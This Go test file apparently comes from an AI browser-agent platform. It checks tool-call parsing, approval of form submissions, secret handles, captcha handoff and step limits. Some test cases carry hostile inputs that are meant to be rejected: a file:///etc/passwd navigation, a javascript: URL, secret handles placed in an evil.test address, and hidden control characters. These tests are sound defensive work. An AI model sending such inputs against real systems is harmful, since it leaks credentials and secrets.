package browse

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/proagentstore/pags/pkg/pags"
	"github.com/proagentstore/pags/pkg/port"
	"github.com/proagentstore/pags/pkg/relay"
)

const form = `- heading "Jobs" [level=1] [ref=e1]
- textbox "Name" [ref=e2]
- textbox "Password" [ref=e3]
- button "Next" [ref=e4] [cursor=pointer]
- button "Submit application" [ref=e5] [cursor=pointer]
- button [ref=e6]
- generic [ref=e7] [cursor=pointer]:
  - img [ref=e8]
  - text: Delete everything
- link "Read \"more\"" [ref=f1e9]:
  - /url: p2.html`

func page(u string) *relay.Observation {
	return &relay.Observation{URL: u, Title: "Jobs", Snapshot: form, Digest: u, GuardSupported: true}
}

func ok(u string) Input { return Input{Result: &relay.Result{Status: relay.StatusOK, Seen: page(u)}} }

func failed(u string) Input {
	return Input{Result: &relay.Result{Status: relay.StatusFailed, Feedback: "covered by a banner", Seen: page(u)}}
}

func reply(name, input string) port.Reply {
	return port.Reply{Stop: "tool", Calls: []port.ToolCall{{ID: "c1", Name: name, Input: json.RawMessage(input)}}}
}

// opened is a task whose first page is there and that asks the model next.
func opened(t *testing.T, change func(*Start)) State {
	t.Helper()
	start := Start{Agent: "Browser", URL: "https://jobs.test/", Objective: "Apply", Approve: "commit"}
	if change != nil {
		change(&start)
	}
	s, m := Begin(start)
	if m.Kind != MoveCall || m.Command.Action != relay.ActNavigate || m.Command.URL != start.URL || m.Command.Guard != GuardOf(start) {
		t.Fatalf("first move = %+v", m)
	}
	return think(t, s, ok(start.URL))
}

// think observes and wants the model to be asked.
func think(t *testing.T, s State, in Input) State {
	t.Helper()
	s, m := Observe(s, in)
	if m != nil {
		t.Fatalf("observed %+v -> %+v, want the model asked", in, *m)
	}
	return s
}

func ends(t *testing.T, s State, m Move, want pags.Outcome) {
	t.Helper()
	if m.Kind == MoveCall && m.Command.Action == relay.ActClose {
		next, last := Observe(s, Input{Result: &relay.Result{Status: relay.StatusOK}})
		if next.Ending == nil || last == nil {
			t.Fatal("closing the page does not end the run")
		}
		m = *last
	}
	if m.Kind != MoveEnd || m.Outcome != want || m.Detail == "" {
		t.Fatalf("move = %+v, want end as %s with a detail", m, want)
	}
}

func asks(t *testing.T, m Move, reason pags.WaitReason) Question {
	t.Helper()
	if m.Kind != MoveAsk || m.Question == nil || m.Question.Reason != reason {
		t.Fatalf("move = %+v, want a question about %s", m, reason)
	}
	if m.Question.Title == "" || len(m.Question.Allowed) == 0 || m.Question.Wait <= 0 {
		t.Fatalf("question = %+v", m.Question)
	}
	return *m.Question
}

func TestAct_Replies(t *testing.T) {
	for _, c := range []struct {
		name  string
		start func(*Start)
		reply port.Reply
		want  func(relay.Command) bool // nil: fed back, nothing done
		said  string
	}{
		{"a click", nil, reply("click", `{"ref":"e4","element":"Next"}`), func(c relay.Command) bool {
			return c.Action == relay.ActClick && c.Ref == "e4" && c.Guard == relay.GuardApprove
		}, ""},
		{"typing", nil, reply("type", `{"ref":"e2","element":"Name","text":"","enter":true}`), func(c relay.Command) bool { return c.Action == relay.ActType && c.Enter && c.Text == "" }, ""},
		{"an element in a frame", nil, reply("click", `{"ref":"f1e9","element":"more"}`), func(c relay.Command) bool { return c.Ref == "f1e9" }, ""},
		{"a check", nil, reply("check", `{"ref":"e2","element":"x","checked":false}`), func(c relay.Command) bool { return c.Checked != nil && !*c.Checked }, ""},
		{"a long wait is cut", nil, reply("wait", `{"seconds":60}`), func(c relay.Command) bool { return c.Seconds == 5 }, ""},
		{"a look", nil, reply("look", `{}`), func(c relay.Command) bool { return c.Action == relay.ActSnapshot }, ""},
		{"the first tab", nil, reply("switch_tab", `{"tab":0}`), func(c relay.Command) bool { return c.Action == relay.ActTab && c.Tab == 0 }, ""},
		{"an upload of a file of the run", func(s *Start) { s.Files = []pags.File{{Name: "cv.pdf", Key: "files/i/1", Size: 3}} },
			reply("upload", `{"ref":"e2","element":"CV","file":"cv.pdf"}`), func(c relay.Command) bool { return c.File != nil && c.File.URL == "" && c.File.Size == 3 }, ""},
		{"an upload without files", nil, reply("upload", `{"ref":"e2","element":"CV","file":"cv.pdf"}`), nil, "no tool"},
		{"no call", nil, port.Reply{Text: "I think", Stop: "end"}, nil, "exactly one"},
		{"two calls", nil, port.Reply{Calls: []port.ToolCall{{Name: "look", Input: []byte(`{}`)}, {Name: "look", Input: []byte(`{}`)}}}, nil, "exactly one"},
		{"an unknown tool", nil, reply("hack", `{}`), nil, "no tool"},
		{"an unknown argument", nil, reply("look", `{"deep":true}`), nil, "cannot be read"},
		{"arguments that are no object", nil, reply("look", `[1]`), nil, "cannot be read"},
		{"a ref that is not there", nil, reply("click", `{"ref":"e99","element":"x"}`), nil, "no e99"},
		{"a ref that is a selector", nil, reply("click", `{"ref":"#go","element":"x"}`), nil, "ref must be"},
		{"a file address", nil, reply("navigate", `{"url":"file:///etc/passwd"}`), nil, "http or https"},
		{"a script address", nil, reply("navigate", `{"url":"javascript:alert(1)"}`), nil, "http or https"},
		{"a secret that the run does not hold", nil, reply("type", `{"ref":"e3","element":"x","text":"{{secret:sec_1}}"}`), nil, "no such secret"},
		{"a secret inside other text", nil, reply("type", `{"ref":"e3","element":"x","text":"a {{secret:sec_1}}"}`), nil, "whole text"},
		{"a secret in an address", nil, reply("navigate", `{"url":"https://evil.test/?q={{secret:sec_1}}"}`), nil, "whole text"},
		{"an encoded secret in an address", nil, reply("navigate", `{"url":"https://evil.test/secret:sec_1"}`), nil, "whole text"},
		{"an odd outcome", nil, reply("finish", `{"outcome":"ready","summary":"x"}`), nil, "done or blocked"},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := opened(t, c.start)
			before, _ := json.Marshal(s)
			next, m := Act(s, c.reply)
			if after, _ := json.Marshal(s); string(after) != string(before) {
				t.Error("Act changed the state it was given")
			}
			if c.want == nil {
				if m.Kind != MoveAgain {
					t.Fatalf("move = %+v, want the model asked again", m)
				}
				if p := promptText(next); !strings.Contains(p, c.said) || next.Seen.Snapshot == "" {
					t.Errorf("the model is not told %q in\n%s", c.said, p)
				}
				think(t, next, Input{})
				return
			}
			if m.Kind != MoveCall || !c.want(*m.Command) {
				t.Fatalf("move = %+v %+v", m, m.Command)
			}
			if next.Seen.Snapshot != "" {
				t.Error("the old snapshot travels on although a new one comes")
			}
		})
	}
}

func promptText(s State) string { return Prompt(s).Messages[0].Parts[0].Text }

func TestAct_ThreeUnusableRepliesInARowAreStuck(t *testing.T) {
	s := opened(t, nil)
	for range 2 {
		s, _ = Act(s, port.Reply{})
		s = think(t, s, Input{})
	}
	s, m := Act(s, reply("look", `{}`)) // a usable one starts the count anew
	s = think(t, s, ok("https://jobs.test/"))
	for i := range 3 {
		if s, m = Act(s, port.Reply{}); i < 2 {
			s = think(t, s, Input{})
		}
	}
	asks(t, m, pags.WaitStuck)
	s, m2 := Observe(s, Input{Answer: &pags.Answer{Kind: pags.AnswerAccept, Note: "press the blue button"}})
	if m2.Kind != MoveCall || m2.Command.Action != relay.ActSnapshot {
		t.Fatalf("after a yes: %+v", m2)
	}
	s = think(t, s, ok("https://jobs.test/"))
	if !strings.Contains(promptText(s), "press the blue button") {
		t.Error("the owner's hint is not shown")
	}
	s, _ = Act(s, reply("look", `{}`))
	s = think(t, s, ok("https://jobs.test/"))
	if strings.Contains(promptText(s), "press the blue button") {
		t.Error("the owner's hint is shown twice")
	}
}

func TestAct_Repetition(t *testing.T) {
	s := opened(t, nil)
	var m Move
	for i := range 3 {
		if s, m = Act(s, reply("click", `{"ref":"e4","element":"Next"}`)); m.Kind != MoveCall {
			t.Fatalf("click %d: %+v", i, m)
		}
		s = think(t, s, ok("https://jobs.test/"))
		s, _ = Act(s, reply("look", `{}`))
		s = think(t, s, ok("https://jobs.test/"))
	}
	if !strings.Contains(promptText(s), "no visible change") {
		t.Error("an unchanged page is not noted")
	}
	s, m = Act(s, reply("click", `{"ref":"e4","element":"other words for it"}`))
	asks(t, m, pags.WaitStuck)
	if s.Round != 1 || s.RoundSteps != 0 {
		t.Errorf("round %d, steps %d", s.Round, s.RoundSteps)
	}
}

func TestObserve_FailuresMakeStuck(t *testing.T) {
	click := func(n int) port.Reply { return reply("click", fmt.Sprintf(`{"ref":"e%d","element":"x"}`, n)) }
	t.Run("the same action three times", func(t *testing.T) {
		s := opened(t, nil)
		for i := range 3 {
			s, _ = Act(s, click(4))
			var m *Move
			s, m = Observe(s, failed("https://jobs.test/"))
			if i < 2 && m != nil || i == 2 && (m == nil || m.Kind != MoveAsk) {
				t.Fatalf("failure %d: %+v", i+1, m)
			}
		}
	})
	t.Run("four on one page", func(t *testing.T) {
		s := opened(t, nil)
		for i := range 4 {
			s, _ = Act(s, click(1+i))
			var m *Move
			s, m = Observe(s, failed("https://jobs.test/"))
			if i < 3 && m != nil || i == 3 && (m == nil || m.Kind != MoveAsk) {
				t.Fatalf("failure %d: %+v", i+1, m)
			}
		}
	})
	t.Run("a new page counts anew", func(t *testing.T) {
		s := opened(t, nil)
		for i := range 4 {
			s, _ = Act(s, click(1+i))
			s = think(t, s, failed(fmt.Sprintf("https://jobs.test/%d", i)))
		}
	})
}

func TestObserve_Challenge(t *testing.T) {
	s, _ := Begin(Start{URL: "https://jobs.test/", Objective: "x"})
	seen := page("https://jobs.test/")
	seen.Challenge = "turnstile"
	in := Input{Result: &relay.Result{Status: relay.StatusOK, Seen: seen}}
	s, m := Observe(s, in)
	if q := asks(t, *m, pags.WaitChallenge); q.Wait != ChallengeWait {
		t.Errorf("wait %s", q.Wait)
	}
	expired, em := Observe(s, Input{Expired: true})
	ends(t, expired, *em, pags.OutcomeCaptcha)

	s, _ = Observe(s, Input{Answer: &pags.Answer{Kind: pags.AnswerAccept}})
	s = think(t, s, in) // the same page just solved by hand is not handed off again
	s, _ = Act(s, reply("click", `{"ref":"e4","element":"Next"}`))
	other := *seen
	other.URL = "https://jobs.test/2"
	_, m = Observe(s, Input{Result: &relay.Result{Status: relay.StatusOK, Seen: &other}})
	asks(t, *m, pags.WaitChallenge)
}

func TestObserve_Approval(t *testing.T) {
	commit := relay.Commit{Ref: "e5", Role: "button", Name: "Submit application", FormAction: "/apply", FormMethod: "post", Origin: "https://jobs.test",
		Fields: []relay.CommitField{{Name: "name", Value: "Ada"}}, Digest: "d1"}
	stopped := func(c relay.Commit) Input {
		return Input{Result: &relay.Result{Status: relay.StatusCommit, Commit: &c, Seen: page("https://jobs.test/")}}
	}
	asked := func(t *testing.T) State {
		s := opened(t, nil)
		s, m := Act(s, reply("click", `{"ref":"e5","element":"the big button"}`))
		if m.Kind != MoveCall || m.Command.Approved != nil {
			t.Fatalf("%+v", m)
		}
		s, am := Observe(s, stopped(commit))
		q := asks(t, *am, pags.WaitApproval)
		raw, _ := json.Marshal(q.Request)
		if !strings.Contains(string(raw), "Ada") || q.Request["digest"] != "d1" || !slices.Equal(q.Allowed, []string{"accept", "decline"}) {
			t.Errorf("question = %s %v", raw, q.Allowed)
		}
		return s
	}
	t.Run("yes does exactly the recorded element", func(t *testing.T) {
		s, m := Observe(asked(t), Input{Answer: &pags.Answer{Kind: pags.AnswerAccept}})
		if m.Kind != MoveCall || m.Command.Action != relay.ActClick || m.Command.Ref != "e5" || m.Command.Approved == nil || m.Command.Approved.Digest != "d1" {
			t.Fatalf("%+v %+v", m, m.Command)
		}
		changed := commit
		changed.Digest = "d2"
		_, m = Observe(s, stopped(changed))
		asks(t, *m, pags.WaitApproval) // the form changed under the approval: asked again
		think(t, s, stopped(commit))   // the same digest refused by the runner is a failure, not another question
		_, m = Observe(s, Input{Result: &relay.Result{Status: relay.StatusUnknown}})
		asks(t, *m, pags.WaitUnknown)
	})
	t.Run("hidden characters of a page are named on the card and kept in what is held", func(t *testing.T) {
		odd := commit
		odd.Name, odd.Fields = "Pay \u202egnp\x1b[2J", []relay.CommitField{{Name: "to", Label: "T\u200bo", Value: "a\u202eb"}}
		s, _ := Act(opened(t, nil), reply("click", `{"ref":"e5","element":"x"}`))
		s, am := Observe(s, stopped(odd))
		q := asks(t, *am, pags.WaitApproval)
		raw, _ := json.Marshal(q)
		if text := q.Title + string(raw); strings.ContainsAny(text, "\u202e\u200b\x1b") || strings.Contains(text, `\u001b`) || !strings.Contains(q.Title, "Pay <U+202E>gnp<U+001B>[2J") {
			t.Errorf("the card holds %q", text)
		}
		if s.Held.Commit.Name != odd.Name || s.Held.Commit.Fields[0].Value != "a\u202eb" {
			t.Errorf("held is %+v", s.Held.Commit)
		}
	})
	t.Run("no is told to the model and not asked again", func(t *testing.T) {
		s, m := Observe(asked(t), Input{Answer: &pags.Answer{Kind: pags.AnswerDecline}})
		if m.Command == nil || m.Command.Action != relay.ActSnapshot {
			t.Fatalf("%+v", m)
		}
		s = think(t, s, ok("https://jobs.test/"))
		if !strings.Contains(promptText(s), "DECLINED") {
			t.Error("the model is not told")
		}
		s, _ = Act(s, reply("click", `{"ref":"e5","element":"x"}`))
		s, m = Observe(s, stopped(commit))
		ends(t, s, *m, pags.OutcomeBlocked)
	})
	t.Run("nobody answers", func(t *testing.T) {
		s, m := Observe(asked(t), Input{Expired: true})
		ends(t, s, *m, pags.OutcomeExpired)
	})
}

func TestObserve_Unknown(t *testing.T) {
	unknown := Input{Result: &relay.Result{Status: relay.StatusUnknown}}
	t.Run("a guarded click cannot have committed: the page tells", func(t *testing.T) {
		s, _ := Act(opened(t, nil), reply("click", `{"ref":"e4","element":"Next"}`))
		s, m := Observe(s, unknown)
		if m == nil || m.Kind != MoveCall || m.Command.Action != relay.ActSnapshot {
			t.Fatalf("%+v", m)
		}
		s = think(t, s, ok("https://jobs.test/"))
		if !strings.Contains(promptText(s), "may or may not") {
			t.Error("the model is not told")
		}
	})
	for _, c := range []struct {
		name  string
		input Input
		want  pags.Outcome
	}{
		{"declined", Input{Answer: &pags.Answer{Kind: pags.AnswerDecline}}, pags.OutcomeUnknown},
		{"expired", Input{Expired: true}, pags.OutcomeUnknown},
		{"accepted", Input{Answer: &pags.Answer{Kind: pags.AnswerAccept}}, ""},
	} {
		t.Run("an unguarded click is for a person to judge: "+c.name, func(t *testing.T) {
			s := opened(t, func(s *Start) { s.Approve = "never" })
			s, _ = Act(s, reply("click", `{"ref":"e5","element":"Submit"}`))
			s, m := Observe(s, unknown)
			asks(t, *m, pags.WaitUnknown)
			s, m = Observe(s, c.input)
			if c.want != "" {
				ends(t, s, *m, c.want)
				return
			}
			if m.Command == nil || m.Command.Action != relay.ActSnapshot {
				t.Fatalf("after a yes the page is looked at, never clicked again: %+v", m)
			}
		})
	}
}

func TestAct_OwnerIsAsked(t *testing.T) {
	ask := func(t *testing.T, args string) (State, Question) {
		s, m := Act(opened(t, nil), reply("request_user_info", args))
		return s, asks(t, m, pags.WaitValue)
	}
	t.Run("a value is shown to the model", func(t *testing.T) {
		s, q := ask(t, `{"question":"Your notice period?","secret":false}`)
		if !slices.Contains(q.Allowed, pags.AnswerValue) {
			t.Error(q.Allowed)
		}
		s, _ = Observe(s, Input{Answer: &pags.Answer{Kind: pags.AnswerValue, Value: "4 weeks"}})
		if s = think(t, s, ok("https://jobs.test/")); !strings.Contains(promptText(s), "4 weeks") {
			t.Error("the answer is missing")
		}
	})
	t.Run("a secret is a handle bound to the page's origin", func(t *testing.T) {
		s, q := ask(t, `{"question":"Password?","secret":true,"field":"Password"}`)
		if slices.Contains(q.Allowed, pags.AnswerValue) || q.Request["origin"] != "https://jobs.test" {
			t.Errorf("%+v", q)
		}
		s, _ = Observe(s, Input{Answer: &pags.Answer{Kind: pags.AnswerSecret, Secret: "sec_01ABC"}})
		s = think(t, s, ok("https://jobs.test/"))
		if !strings.Contains(promptText(s), "{{secret:sec_01ABC}}") {
			t.Error("the handle is missing")
		}
		_, m := Act(s, reply("type", `{"ref":"e3","element":"Password","text":"{{secret:sec_01ABC}}"}`))
		if m.Kind != MoveCall || m.Command.Secret != "sec_01ABC" || m.Command.Text != "" || strings.Contains(m.Text, "sec_") {
			t.Fatalf("%+v %+v", m, m.Command)
		}
	})
	t.Run("a no is told; the same question again ends the run", func(t *testing.T) {
		s, _ := ask(t, `{"question":"Salary?","secret":false}`)
		s, _ = Observe(s, Input{Answer: &pags.Answer{Kind: pags.AnswerDecline}})
		s = think(t, s, ok("https://jobs.test/"))
		s, m := Act(s, reply("request_user_info", `{"question":"Salary?","secret":false}`))
		ends(t, s, m, pags.OutcomeNeedsInput)
	})
	t.Run("no answer", func(t *testing.T) {
		s, _ := ask(t, `{"question":"Salary?","secret":false}`)
		s, m := Observe(s, Input{Expired: true})
		ends(t, s, *m, pags.OutcomeNeedsInput)
	})
	t.Run("after twelve rounds nobody is asked any more", func(t *testing.T) {
		s := opened(t, nil)
		for i := range MaxRounds {
			var m Move
			s, m = Act(s, reply("request_user_info", fmt.Sprintf(`{"question":"Q%d?","secret":false}`, i)))
			asks(t, m, pags.WaitValue)
			s, _ = Observe(s, Input{Answer: &pags.Answer{Kind: pags.AnswerValue, Value: "x"}})
			s = think(t, s, ok("https://jobs.test/"))
		}
		s, m := Act(s, reply("request_user_info", `{"question":"one more?","secret":false}`))
		ends(t, s, m, pags.OutcomeNeedsInput)
	})
}

func TestAct_FinishAndBudget(t *testing.T) {
	dry := func(s *Start) { s.DryRun = true }
	for _, c := range []struct {
		name  string
		start func(*Start)
		args  string
		want  pags.Outcome
	}{
		{"done", nil, `{"outcome":"done","summary":"Sent."}`, pags.OutcomeDone},
		{"blocked", nil, `{"outcome":"blocked","summary":"No such job."}`, pags.OutcomeBlocked},
		{"done in a dry run is ready", dry, `{"outcome":"done","summary":"All set."}`, pags.OutcomeReady},
		{"read only outranks dry run", func(s *Start) { s.DryRun, s.ReadOnly = true, true }, `{"outcome":"done","summary":"Read."}`, pags.OutcomeDone},
		{"without a summary", nil, `{"outcome":"done","summary":""}`, pags.OutcomeDone},
	} {
		t.Run(c.name, func(t *testing.T) {
			s, m := Act(opened(t, c.start), reply("finish", c.args))
			ends(t, s, m, c.want)
		})
	}
	t.Run("the step budget", func(t *testing.T) {
		s := opened(t, func(s *Start) { s.MaxSteps = 3 })
		for i := range 3 {
			s, _ = Act(s, reply("scroll", fmt.Sprintf(`{"direction":"%s"}`, []string{"up", "down", "up"}[i])))
			if i < 2 {
				s = think(t, s, ok("https://jobs.test/"))
			}
		}
		s, m := Observe(s, ok("https://jobs.test/"))
		ends(t, s, *m, pags.OutcomeMaxSteps)
	})
	t.Run("a round has at most 60", func(t *testing.T) {
		if s := opened(t, func(s *Start) { s.MaxSteps = 1000 }); s.Start.MaxSteps != 60 {
			t.Error(s.Start.MaxSteps)
		}
	})
	t.Run("cancel closes the page, then ends", func(t *testing.T) {
		s, m := Cancel(opened(t, nil))
		if m.Kind != MoveCall || m.Command.Action != relay.ActClose {
			t.Fatalf("%+v", m)
		}
		ends(t, s, m, pags.OutcomeCancelled)
		fresh, _ := Begin(Start{URL: "https://x.test"})
		if _, m = Cancel(fresh); m.Kind != MoveEnd {
			t.Fatalf("nothing was opened, yet %+v", m)
		}
	})
}

func TestObserve_FirstPage(t *testing.T) {
	for _, c := range []struct {
		name   string
		result relay.Result
		want   pags.Outcome
	}{
		{"unreachable", relay.Result{Status: relay.StatusFailed, Feedback: "net::ERR_CONNECTION_REFUSED"}, pags.OutcomeFailed},
		{"refused address", relay.Result{Status: relay.StatusRefused, Feedback: "that is the platform's own address"}, pags.OutcomeBlocked},
	} {
		t.Run(c.name, func(t *testing.T) {
			s, _ := Begin(Start{URL: "https://x.test"})
			s, m := Observe(s, Input{Result: &c.result})
			ends(t, s, *m, c.want)
			if !strings.Contains(s.Ending.Detail, c.result.Feedback) {
				t.Error(s.Ending.Detail)
			}
		})
	}
}

func TestObserve_WhyAPageWasNotOpenedIsSaidOnce(t *testing.T) {
	for feedback, want := range map[string]string{
		"The page could not be opened: its name is nobody's": "its name is nobody's",
		"not opened: it is on a private network":             "it is on a private network",
		"the page did not answer within 30s":                 "the page did not answer within 30s",
		"":                                                   "",
	} {
		if got := unopened(feedback); got != want {
			t.Errorf("%q: %q", feedback, got)
		}
	}
}
